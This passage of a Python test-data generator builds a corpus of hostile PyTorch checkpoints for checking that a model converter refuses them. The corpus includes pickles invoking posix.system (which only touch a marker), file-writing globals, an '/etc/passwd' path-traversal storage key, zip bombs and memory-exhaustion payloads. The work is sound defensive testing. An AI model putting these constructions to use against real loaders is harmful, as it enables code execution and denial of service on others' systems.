    return m.legacy_bytes(m.state_dict(), keys=dumps(posix_system()))


@case("exec_legacy_persid_module.pt", "legacy format: a ('module', posix.system, file, source) persistent id "
      "(which the legacy loader returns as the class), then REDUCE with cmd", REFUSE_EXEC)
def _():
    m = Model(legacy=True)
    fn = PersId(("module", G("posix", "system"), None, None))
    return m.legacy_bytes(m.wrapped(epoch=Call(fn, (SHELL,))))


@case("exec_raw_pickle.pt", "a bare pickle (pickle.dump, neither zip nor legacy stream) of posix.system(cmd)",
      REFUSE_EXEC)
def _():
    return dumps(posix_system())


@case("exec_tar_format.pt", "pre-1.0 tar format (members sys_info, storages, tensors, pickle); its 'pickle' "
      "member (and sys_info) is posix.system(cmd)", "refuse (tar format not read); run nothing")
def _():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in (("sys_info", dumps(posix_system())), ("storages", dumps(0) + dumps([])),
                           ("tensors", dumps(0)), ("pickle", dumps(posix_system()))):
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode, ti.uid, ti.gid, ti.uname, ti.gname = len(data), 0, 0o644, 0, 0, "", ""
            tf.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


@case("exec_torchscript_setstate_from_file.pt", "TorchScript archive (constants.pkl, code/): its __setstate__ "
      "writes 'A' x 16 to the marker path through torch.from_file(shared=True) when torch.jit.load runs it",
      "refuse as TorchScript; never hand it to torch.jit.load")
def _():
    data = dumps(New(G("__torch__", "Evil"), (), (1, True)))
    return torch_zip([("data.pkl", data), ("code/__torch__.py", TORCHSCRIPT_CODE.encode()),
                      ("constants.pkl", dumps(())), ("version", b"3\n")])


@case("torchscript_state_dict.pt", "a valid state dict zip that also holds constants.pkl and code/ "
      "(the TorchScript layout)", "refuse as TorchScript")
def _():
    m = Model()
    return m.zip(m.state_dict(), extra=[("constants.pkl", dumps(())),
                                        ("code/__torch__.py", b"class M(Module):\n  __parameters__ = []\n")])


# --- file writes from Python ----------------------------------------------------------------

REFUSE_WRITE = "refuse by the global's name; write nothing"


@case("write_torch_from_file.pt", "torch.from_file(marker, True, 16): creates the marker file", REFUSE_WRITE)
def _():
    m = Model()
    return m.zip(m.wrapped(epoch=Call(G("torch", "from_file"), (MARKER_PATH, True, 16))))


@case("write_torch_serialization_open_file.pt", "torch.serialization._open_file(marker, 'w') (an open for "
      "writing)", REFUSE_WRITE)
def _():
    m = Model()
    return m.zip(m.wrapped(epoch=Call(G("torch.serialization", "_open_file"), (MARKER_PATH, "w"))))


@case("write_numpy_memmap.pt", "numpy.memmap(marker, 'uint8', 'w+', 0, (16,)): creates the marker",
      REFUSE_WRITE)
def _():
    m = Model()
    return m.zip(m.wrapped(epoch=Call(G("numpy", "memmap"), (MARKER_PATH, "uint8", "w+", 0, (16,)))))


@case("write_builtins_open.pt", "__builtin__.open(marker, 'w')", REFUSE_WRITE)
def _():
    return torch_zip([("data.pkl", dumps(Call(G("__builtin__", "open"), (MARKER_PATH, "w")))),
                      ("version", b"3\n")])


@case("write_pathlib_touch_p4.pt", "protocol 4: STACK_GLOBAL 'pathlib' 'Path.touch' applied to "
      "pathlib.PosixPath(marker)", REFUSE_WRITE)
def _():
    path = Call(G("pathlib", "PosixPath", stack=True), (MARKER_PATH,))
    return torch_zip([("data.pkl", dumps(Call(G("pathlib", "Path.touch", stack=True), (path,)), 4)),
                      ("version", b"3\n")])


# --- storages that do not fit their records ---------------------------------------------------

REFUSE_BOUNDS = "refuse before reading any tensor bytes"
CLS1 = EMB + "cls_token1"


def _one_bad(bad):
    m = Model()
    return m.zip(m.state_dict({CLS1: bad}))


@case("storage_oversized_by_one.pt", "cls_token1's storage declares 9 floats; its record holds 8 (the view "
      "reads only the 8)", "refuse: a storage larger than its record")
def _():
    return _one_bad(tensor(storage("1", 9), 0, (1, 1, 8)))


@case("storage_past_record_slightly.pt", "cls_token1's storage declares 16 floats, its record holds 8, and "
      "the view is elements 8..15: 32 bytes past the record (today's converter copied heap bytes)",
      REFUSE_BOUNDS)
def _():
    return _one_bad(tensor(storage("1", 16), 8, (1, 1, 8)))


@case("storage_past_record_far.pt", "cls_token1's storage declares 2^26 floats (256 MB) over a 32-byte "
      "record; the view is at element 2^25", REFUSE_BOUNDS)
def _():
    return _one_bad(tensor(storage("1", 1 << 26), 1 << 25, (1, 1, 8)))


@case("storage_numel_huge.pt", "a storage of 2^62 floats (2^64 bytes: wraps to 0 in 64-bit arithmetic)",
      REFUSE_BOUNDS)
def _():
    return _one_bad(tensor(storage("1", 1 << 62), 0, (1, 1, 8)))


@case("storage_numel_negative.pt", "a storage of -1 elements", REFUSE_BOUNDS)
def _():
    return _one_bad(tensor(storage("1", -1), 0, (1, 1, 8)))


@case("storage_record_missing.pt", "a persistent id naming storage '99', which has no record", REFUSE_BOUNDS)
def _():
    return _one_bad(tensor(storage("99", 8), 0, (1, 1, 8)))


@case("storage_key_path_traversal.pt", "a storage key '../../../../../../etc/passwd'", REFUSE_BOUNDS)
def _():
    return _one_bad(tensor(storage("../../../../../../etc/passwd", 8), 0, (1, 1, 8)))


@case("storage_legacy_3gb_unlisted.pt", "legacy format: part_head.weight's and .bias's storages declare 750 M "
      "and 94 M floats (3.4 GB) and are left out of the storage-keys list, so torch allocates them and never "
      "reads them (rc 0, a 3.4 GB output)", REFUSE_BOUNDS + " (no 3 GB allocation, no 3 GB output)")
def _():
    heads = ("part_head.weight", "part_head.bias")
    m = Model(legacy=True, C=93_750_000, short={n: 0 for n in heads})
    return m.legacy_bytes(m.state_dict(), omit={str(list(m.shapes).index(n)) for n in heads})


@case("storage_legacy_3gb_eof.pt", "legacy format: part_head.weight's storage declares 750 M floats (3 GB), "
      "and so does its count in the file, but the file ends 64 bytes later", REFUSE_BOUNDS)
def _():
    m = Model(legacy=True, C=93_750_000, short={"part_head.weight": 16, "part_head.bias": 16},
              keys={"part_head.weight": "zz0", "part_head.bias": "zz1"})  # sorted last: the file ends in them
    return m.legacy_bytes(m.state_dict())


@case("storage_legacy_view_metadata.pt", "legacy format: cls_token1's persistent id carries view metadata "
      "('1v', offset 4, 2^30 elements) over its 8-float storage", REFUSE_BOUNDS)
def _():
    m = Model(legacy=True)
    st = PersId(("storage", FLOAT_STORAGE, "1", "cpu", 8, ("1v", 4, 1 << 30)))
    return m.legacy_bytes(m.state_dict({CLS1: tensor(st, 0, (1, 1, 8))}))


# --- views -------------------------------------------------------------------------------------

@case("view_offset_negative.pt", "cls_token1 at storage offset -8 (the bytes before its record)", REFUSE_BOUNDS)
def _():
    return _one_bad(tensor(storage("1", 8), -8, (1, 1, 8)))


@case("view_offset_huge.pt", "cls_token1 at storage offset 2^62 (x4 bytes wraps in 64-bit arithmetic)",
      REFUSE_BOUNDS)
def _():
    return _one_bad(tensor(storage("1", 8), 1 << 62, (1, 1, 8)))


@case("view_past_end.pt", "cls_token1 at offset 1 of its 8-float storage: one element past the end",
      REFUSE_BOUNDS)
def _():
    return _one_bad(tensor(storage("1", 8), 1, (1, 1, 8)))


@case("view_stride_out_of_bounds.pt", "layer 0 attn.query.weight (8 x 8) with strides (9, 1) over its 64 floats",
      REFUSE_BOUNDS)
def _():
    m = Model()
    name = ENC + "layer.0.attn.query.weight"
    key = str(list(m.shapes).index(name))
    return m.zip(m.state_dict({name: tensor(storage(key, 64), 0, (8, 8), (9, 1))}))


@case("view_stride_negative.pt", "attn.query.weight with strides (-8, 1) from offset 56 (rows reversed: "
      "torch never stores that)", "refuse: a negative stride")
def _():
    m = Model()
    name = ENC + "layer.0.attn.query.weight"
    key = str(list(m.shapes).index(name))
    return m.zip(m.state_dict({name: tensor(storage(key, 64), 56, (8, 8), (-8, 1))}))


@case("view_size_negative.pt", "cls_token1 with size (1, -1, 8)", "refuse: a negative size")
def _():
    return _one_bad(tensor(storage("1", 8), 0, (1, -1, 8)))


@case("view_self_overlapping.pt", "attn.query.weight (8 x 8) with strides (1, 1): 64 elements over 15 floats",
      "refuse: a view that overlaps itself")
def _():
    m = Model()
    name = ENC + "layer.0.attn.query.weight"
    key = str(list(m.shapes).index(name))
    return m.zip(m.state_dict({name: tensor(storage(key, 64), 0, (8, 8), (1, 1))}))


@case("view_stride_zero_expand.pt", "a consistent ViT (hidden 2048, MLP 8192, 24 layers, 1024 px) whose 393 "
      "tensors are zero-stride expand() views of one 4-byte storage: ~4.8 GB of output from 38 KB",
      "refuse: zero strides / more elements than the file holds")
def _():
    arch = dict(D=2048, P=16, G=64, L=24, M=8192, C=1000)
    shapes = arch_shapes(**arch)
    st = storage("0", 1)
    sd = ODict([(n, tensor(st, 0, s, (0,) * len(s))) for n, s in shapes.items()])
    return torch_zip([("data.pkl", dumps(sd)), ("data/0", struct.pack("<f", 0.5)), ("version", b"3\n")])


@case("view_many_on_one_storage.pt", "a consistent ViT (hidden 32, MLP 128, 48 layers) whose 777 tensors "
      "all view one 16 KB storage: ~2.4 MB of output, 150x the tensor bytes in the file",
      "refuse: the views hold more elements than the file's storages")
def _():
    arch = dict(D=32, P=4, G=2, L=48, M=128, C=2)
    shapes = arch_shapes(**arch)
    n = 32 * 128
    st = storage("0", n)
    sd = ODict([(k, tensor(st, 0, s)) for k, s in shapes.items()])
    return torch_zip([("data.pkl", dumps(sd)), ("data/0", floats(n, 5)), ("version", b"3\n")])


# --- zip containers ----------------------------------------------------------------------------

@case("zip_bomb_overlapping.pt", "the micro model (16 layers, 265 tensors) whose 265 storage records "
      "overlap (Fifield's quoted-overlap construction): each inflates to ~12 MB of zeros from one 12 KB "
      "deflate kernel, ~3.3 GB in all from 70 KB", "refuse: compressed / overlapping records; inflate nothing")
def _():
    arch = dict(D=8, P=4, G=2, L=16, M=16, C=2)
    shapes = arch_shapes(**arch)
    keys = [str(i) for i in range(len(shapes))]
    # storage element counts: filled in from the record sizes (the first record is the largest)
    kernel = 12 << 20
    _, usize = overlapping_bomb_zip("archive", b"", keys, kernel)
    sd = ODict([(n, tensor(storage(k, usize[i] // 4), 0, s))
                for i, (k, (n, s)) in enumerate(zip(keys, shapes.items()))])
    data, usize2 = overlapping_bomb_zip("archive", dumps(sd), keys, kernel)
    assert usize2 == usize
    return data


@case("zip_declared_huge_pickle.pt", "data.pkl's headers declare 2^62 bytes (zip64 extra) for a 40-byte "
      "stored record", "refuse: a record larger than the file; allocate nothing by the header's word")
def _():
    pkl = dumps({"a": 1})
    z64 = struct.pack("<HHQQ", 1, 16, 1 << 62, 1 << 62)
    return raw_zip([{"name": "archive/data.pkl", "data": pkl, "csize": 0xFFFFFFFF, "usize": 0xFFFFFFFF,
                     "local_extra": z64, "central_extra": z64},
                    {"name": "archive/version", "data": b"3\n"}])


@case("zip_declared_huge_storage.pt", "the micro state dict whose cls_token1 record's headers declare 3 GB "
      "(and its persistent id 750 M floats) but hold 32 bytes", REFUSE_BOUNDS)
def _():
    m = Model()
    n = 750_000_000
    sd = m.state_dict({CLS1: tensor(storage("1", n), n - 8, (1, 1, 8))})
    entries = [{"name": "archive/data.pkl", "data": dumps(sd)}]
    for k in sorted(m.records):
        e = {"name": f"archive/data/{k}", "data": m.records[k]}
        if k == "1":
            e.update(csize=n * 4 // 2, usize=n * 4 // 2)  # 1.5 GB: still a 32-bit field
        entries.append(e)
    entries.append({"name": "archive/version", "data": b"3\n"})
    return raw_zip(entries)


@case("zip_truncated.pt", "the first half of a valid micro state-dict zip (no central directory)",
      "refuse: not a readable checkpoint")
def _():
    m = Model()
    z = m.zip(m.state_dict())
    return z[:len(z) // 2]


@case("zip_not_torch.pt", "a zip holding README.txt and a pickle of posix.system(cmd) under an unrelated name",
      "refuse: no data.pkl; run nothing")
def _():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in (("README.txt", b"not a checkpoint\n"), ("payload.pkl", dumps(posix_system()))):
            zi = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            zi.create_system = 0
            zf.writestr(zi, data)
    return buf.getvalue()


# --- exponential, cyclic and deep object graphs ------------------------------------------------

def module_dag(depth):
    """depth modules; each one's _modules holds the next one twice ('a' and 'b'); the last holds a
    parameter: state_dict() and repr() of the first visit 2^depth paths."""
    m = Model()
    leaf = module("model_rams", "Mlp", params=[("weight", param(m.tensors[ENC + "layer.0.attn.query.weight"]))])
    node = leaf
    for _ in range(depth):
        node = module("model_rams", "Block", modules=[("a", node), ("b", node)])
    return m, node


@case("graph_module_dag_depth40.pt", "a pickled module DAG of depth 40 (each node's _modules holds the next "
      "node twice): 2^40 paths through state_dict()", "refuse within the time limit (walk each node once)")
def _():
    m, root = module_dag(40)
    return m.zip(root)


@case("graph_module_dag_dict_key.pt", "the same DAG as the key of the top-level dict {dag: 1} (a refusal "
      "message that calls str() on it never ends)", "refuse without str()/repr() of the key")
def _():
    m, root = module_dag(40)
    return m.zip(ODict([(root, 1)]))


@case("graph_dict_dag_depth40.pt", "{'state_dict': D0} where Dk = {'a': Dk+1, 'b': Dk+1}, 40 deep: 2^40 "
      "paths for anything that walks (or prints) it without a visited set", "refuse within the time limit")
def _():
    node = {"w": 1}
    for _ in range(40):
        node = {"a": node, "b": node}
    return torch_zip([("data.pkl", dumps({"state_dict": node})), ("version", b"3\n")])


@case("graph_module_cycle.pt", "pickled modules A -> B -> A (_modules cycle), A a VisionTransformer",
      "refuse (no endless recursion)")
def _():
    m = Model()
    a = module("model_rams", "VisionTransformer", attrs={"num_classes": 2})
    b = module("model_rams", "Transformer", modules=[("back", a)])
    a.state["_modules"].items.append(("transformer", b))
    return m.zip(a)


@case("graph_module_chain_deep.pt", "a chain of 3000 nested pickled modules (each the only child of the "
      "previous)", "refuse (no RecursionError trace, no crash)")
def _():
    node = New(cls("torch.nn.modules.linear", "Identity"), (), {"_modules": ODict()})
    for _ in range(3000):  # only _modules in each state: the file stays small
        node = New(cls("torch.nn.modules.container", "Sequential"), (), {"_modules": ODict([("0", node)])})
    old = sys.getrecursionlimit()
    sys.setrecursionlimit(100000)
    try:
        return torch_zip([("data.pkl", dumps(node)), ("version", b"3\n")])
    finally:
        sys.setrecursionlimit(old)


@case("graph_nested_lists_deep.pt", "lists nested 50 000 deep (EMPTY_LIST x 50 000, APPEND x 49 999)",
      "refuse (no RecursionError trace, no crash)")
def _():
    n = 50_000
    return torch_zip([("data.pkl", b"\x80\x02" + b"]" * n + b"a" * (n - 1) + b"."), ("version", b"3\n")])


# --- memory from a few bytes -------------------------------------------------------------------

REFUSE_ALLOC = "refuse without allocating it (peak RSS < 2 GB)"


@case("alloc_memo_index.pt", "LONG_BINPUT 0x0C000000: CPython's C unpickler grows its memo list to twice the "
      "index (3 GB, zero-filled) for 14 bytes of pickle", REFUSE_ALLOC)
def _():
    data = b"\x80\x02N" + b"r" + struct.pack("<I", 0x0C000000) + b"."
    return torch_zip([("data.pkl", data), ("version", b"3\n")])


@case("alloc_bytearray.pt", "__builtin__.bytearray(3 000 000 000)", REFUSE_ALLOC)
def _():
    return torch_zip([("data.pkl", dumps(Call(G("__builtin__", "bytearray"), (3_000_000_000,)))),
                      ("version", b"3\n")])


@case("alloc_tuple_range.pt", "__builtin__.tuple(__builtin__.range(400 000 000))", REFUSE_ALLOC)
def _():
    r = Call(G("__builtin__", "range"), (400_000_000,))
    return torch_zip([("data.pkl", dumps(Call(G("__builtin__", "tuple"), (r,)))), ("version", b"3\n")])


@case("alloc_numpy_ones.pt", "numpy.ones((750 000 000,)) (6 GB of float64)", REFUSE_ALLOC)
def _():
    return torch_zip([("data.pkl", dumps(Call(G("numpy", "ones"), ((750_000_000,),)))), ("version", b"3\n")])


@case("alloc_torch_ones.pt", "torch.ones(800 000 000) (3.2 GB)", REFUSE_ALLOC)
def _():
    return torch_zip([("data.pkl", dumps(Call(G("torch", "ones"), (800_000_000,)))), ("version", b"3\n")])


@case("alloc_declared_huge_length_p4.pt", "protocol 4: FRAME of 2^40 bytes, then BINUNICODE8 of 2^62 bytes",
      REFUSE_ALLOC)
def _():
    data = b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + b"\x8d" + struct.pack("<Q", 1 << 62) + b"abc."
    return torch_zip([("data.pkl", data), ("version", b"3\n")])


# --- broken files ------------------------------------------------------------------------------

@case("format_empty.pt", "an empty file", "refuse: not a checkpoint")
def _():
    return b""


@case("format_legacy_truncated.pt", "the micro legacy state dict cut inside its main pickle",
      "refuse: not a readable checkpoint")
def _():
    m = Model(legacy=True)
    data = m.legacy_bytes(m.state_dict())
    return data[:300]


@case("format_persid_text_p0.pt", "the micro state dict whose cls_token1 storage is a protocol-0 PERSID "
      "'1' (a string, not torch's tuple)", "refuse: not a storage reference torch writes")
def _():
    return _one_bad(tensor(Raw(b"P1\n"), 0, (1, 1, 8)))


@case("format_next_buffer_p5.pt", "protocol 5: NEXT_BUFFER (out-of-band data that is not there)",
      "refuse: not a readable checkpoint")
def _():
    return torch_zip([("data.pkl", b"\x80\x05\x97."), ("version", b"3\n")])


@case("zip_local_header_lies.pt", "the micro state dict whose cls_token1 record's local header claims a "
      "60 000-byte extra field that is not there: its data would start past the end of the file",
      REFUSE_BOUNDS)
def _():
    m = Model()
    entries = [{"name": "archive/data.pkl", "data": dumps(m.state_dict())}]
    for k in sorted(m.records):
        e = {"name": f"archive/data/{k}", "data": m.records[k]}
        if k == "1":
            e["local_extra_len"] = 60000
        entries.append(e)
    entries.append({"name": "archive/version", "data": b"3\n"})
    return raw_zip(entries)


# ---------------------------------------------------------------------------------------------
# Valid controls (not committed): the bases above, which must convert.

def controls():
    m, ml = Model(), Model(legacy=True)
    return {
        "control_zip_state_dict.pt": m.zip(m.state_dict()),
        "control_zip_state_dict_p4.pt": m.zip(m.state_dict(), proto=4),
        "control_zip_wrapped.pt": m.zip(m.wrapped()),
        "control_zip_pickled.pt": m.zip(pickled_model(m)),
        "control_zip_pickled_dp.pt": m.zip(pickled_model(m, dp=True)),
        "control_legacy_state_dict.pt": ml.legacy_bytes(ml.state_dict()),
        "control_legacy_wrapped.pt": ml.legacy_bytes(ml.wrapped()),
        "control_legacy_pickled.pt": ml.legacy_bytes(pickled_model(ml)),
        "control_legacy_pickled_dp.pt": ml.legacy_bytes(pickled_model(ml, dp=True)),
    }


README_HEAD = """# Hostile checkpoints

Written by `/usr/bin/python3 tools/reference/make_hostile_checkpoints.py --out tests/data/hostile`
(deterministic, no torch needed: rerunning it gives the same bytes). Never edit by hand.
`tests/test_hostile.sh` (ctest `hostile`) runs every file through `tools/convert.py` and checks that
it is refused: exit status 1 (not 0, not a signal, not a timeout), exactly one line on stderr naming
the file, no output or temporary file, within 20 s, peak RSS under 2 GB, and that no marker
appeared. It also checks that the generator reproduces these bytes and that the valid bases
(`--controls`) still convert.

Payloads only touch a marker: shell payloads run
`touch "${RAMS_HOSTILE_MARKER:-/tmp/ramstrans_hostile_marker}"`, Python/TorchScript-level writes go
to `/tmp/ramstrans_hostile_marker`. Unless said otherwise a file is a torch 1.13 zip (`archive/data.pkl`,
`archive/data/<key>`, `archive/version`) whose pickle is protocol 2; "valid training checkpoint" is
`{'state_dict': <micro model>, 'epoch': 7, 'best_acc': 0.5, 'optimizer': {'lr': 0.03}}` with one
field replaced; the micro model is a RAMS-Trans of image 8, patch 4, hidden 8, 1 layer, MLP 16,
2 classes (`--num-heads 4`).

| file | attack | the converter must |
|---|---|---|
"""


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", required=True, help="directory for the corpus (created if missing)")
    ap.add_argument("--controls", default=None, help="also write the valid bases here")
    args = ap.parse_args(argv)
    os.makedirs(args.out, exist_ok=True)
    total = 0
    rows = []
    for name, attack, must, fn in CORPUS:
        data = fn()
        with open(os.path.join(args.out, name), "wb") as f:
            f.write(data)
        total += len(data)
        esc = lambda t: t.replace("_", "\\_").replace("*", "\\*").replace("|", "\\|")  # noqa: E731
        rows.append(f"| `{name}` | {esc(attack)} | {esc(must)} |")
    with open(os.path.join(args.out, "README.md"), "w") as f:
        f.write(README_HEAD + "\n".join(rows) + "\n")
    print(f"wrote {len(CORPUS)} hostile checkpoints ({total} bytes) and README.md to {args.out}")
    if args.controls:
        os.makedirs(args.controls, exist_ok=True)
        for name, data in controls().items():
            with open(os.path.join(args.controls, name), "wb") as f:
                f.write(data)
        print(f"wrote {len(controls())} valid controls to {args.controls}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
